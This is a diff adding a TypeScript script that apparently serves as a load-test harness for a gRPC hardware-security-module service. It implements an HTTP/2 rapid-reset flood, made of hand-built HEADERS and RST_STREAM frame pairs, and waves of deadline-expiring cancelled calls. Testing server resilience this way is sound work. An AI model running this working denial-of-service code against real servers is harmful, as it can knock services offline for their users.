@@ -1,0 +1,90 @@
+/** Two loads that reset many calls, each in a process of its own: `reset-attacks.js flood|deadlines HOST:PORT`. */
+import { connect as connectHttp2 } from "node:http2";
+import { connect } from "node:net";
+import { setTimeout as sleep } from "node:timers/promises";
+
+/** Frame types of RFC 9113, section 6. */
+const [HEADERS, RST_STREAM, SETTINGS] = [1, 3, 4];
+const END_HEADERS = 4;
+const CANCEL = Buffer.from([0, 0, 0, 8]);
+const FLOODS_PER_SECOND = 2.5;
+const PAIRS = 1_200;
+const WAVE = 90;
+const DEADLINE_MS = 300;
+
+function frame(type: number, flags: number, stream: number, payload: Uint8Array): Buffer {
+  const head = Buffer.alloc(9);
+  head.writeUIntBE(payload.length, 0, 3);
+  head.writeUInt8(type, 3);
+  head.writeUInt8(flags, 4);
+  head.writeUInt32BE(stream, 5);
+  return Buffer.concat([head, payload]);
+}
+
+/** A literal field without indexing (RFC 7541, section 6.2.2). */
+function field(name: string, value: string): Buffer {
+  return Buffer.concat([
+    Buffer.from([0, name.length]),
+    Buffer.from(name),
+    Buffer.from([value.length]),
+    Buffer.from(value),
+  ]);
+}
+
+/** POST and http from the static table, and what a call of gRPC has besides. */
+const HEAD = Buffer.concat([
+  Buffer.from([0x83, 0x86]),
+  ...[
+    field(":path", "/grep11.Crypto/GenerateRandom"),
+    field(":authority", "hsm"),
+    field("content-type", "application/grpc"),
+  ],
+]);
+
+/** One connection with `PAIRS` calls, each reset at once. */
+function flood(host: string, port: number): void {
+  const socket = connect(port, host).on("error", () => undefined);
+  socket
+    .resume()
+    .write(Buffer.concat([Buffer.from("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"), frame(SETTINGS, 0, 0, Buffer.alloc(0))]));
+  const pairs = Array.from({ length: PAIRS }, (_, i) => [
+    frame(HEADERS, END_HEADERS, 2 * i + 1, HEAD),
+    frame(RST_STREAM, 0, 2 * i + 1, CANCEL),
+  ]);
+  socket.write(Buffer.concat(pairs.flat()));
+  setTimeout(() => socket.destroy(), 1_000);
+}
+
+/** Waves of calls of an admitted client that pass their deadline. Tells its parent whenever it has to connect anew. */
+async function deadlines(address: string): Promise<void> {
+  const open = () => connectHttp2(`http://${address}`).on("error", () => undefined);
+  let session = open();
+  const call = (headers: object) =>
+    session
+      .request({
+        ":method": "POST",
+        ":path": "/grep11.Crypto/GenerateRandom",
+        "content-type": "application/grpc",
+        authorization: "Bearer good",
+        ...headers,
+      })
+      .on("error", () => undefined)
+      .resume();
+  for (;;) {
+    if (session.destroyed) {
+      process.send!("cut");
+      session = open();
+    }
+    call({}).end(Buffer.from([0, 0, 0, 0, 2, 8, 1]));
+    const streams = Array.from({ length: WAVE }, () => call({ "grpc-timeout": `${DEADLINE_MS}m` }));
+    await sleep(DEADLINE_MS * 0.97);
+    for (const stream of streams) stream.close(8);
+    await sleep(50);
+  }
+}
+
+const [, , kind, address = ""] = process.argv;
+const { hostname, port } = new URL(`http://${address}`);
+process.on("disconnect", () => process.exit());
+if (kind === "flood") setInterval(() => flood(hostname, Number(port)), 1_000 / FLOODS_PER_SECOND);
+else await deadlines(address);
